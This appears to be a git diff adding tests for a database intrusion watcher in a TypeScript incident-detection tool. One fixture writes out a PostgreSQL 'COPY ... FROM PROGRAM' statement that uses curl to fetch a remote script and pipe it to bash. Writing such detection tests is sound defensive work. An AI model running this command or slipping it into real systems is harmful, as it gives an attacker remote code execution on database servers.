@@ -15,6 +15,7 @@ import {
 } from '../incident.fixture.ts';
 import type { Scene } from '../scene.ts';
 import { brokerWatcher } from './broker.ts';
+import { databaseWatcher } from './database.ts';
 import { DockerWatcher } from './docker.ts';
 import { KubernetesWatcher } from './kubernetes.ts';
 import { RedisWatcher } from './redis.ts';
@@ -194,6 +195,37 @@ describe('schedulers and brokers', () => {
   test('an open door alone is no way in, nor is a miner of another account', () => {
     const of = { doors: [door('activemq', 61616)], miners: [miner('2024-03-10 02:32:00', 'www-data')] };
     expect(told(brokerWatcher(), [], of)).toEqual([]);
+  });
+});
+
+describe('databases', () => {
+  const ran = service('2024-03-10 02:31:00', 'postgresql', 'statement', {
+    account: 'postgres',
+    detail: "COPY c FROM PROGRAM 'curl -s http://203.0.113.66/pg.sh|bash'",
+  });
+  const came = (from: string): LogEvent =>
+    event('2024-03-10 02:30:30', {
+      what: 'login',
+      outcome: 'accepted',
+      service: 'postgresql',
+      account: text('postgres'),
+      known: true,
+      from: text(from),
+      method: text('md5'),
+    });
+  const of = scene({ files: [left('/tmp/.pg', '2024-03-10 02:31:05', 'postgres')] });
+
+  test('a statement without an address is of the one stranger who had logged in', () => {
+    expect(conclude(databaseWatcher(), [came(attacker), came('10.0.0.3'), ran], of)[0]).toMatchObject({
+      grade: 'confirmed',
+      attackers: [attacker],
+    });
+  });
+
+  test('of two strangers neither is named', () => {
+    expect(
+      conclude(databaseWatcher(), [came(attacker), came('198.51.100.9'), ran], of)[0]?.attackers,
+    ).toEqual([]);
   });
 });
 
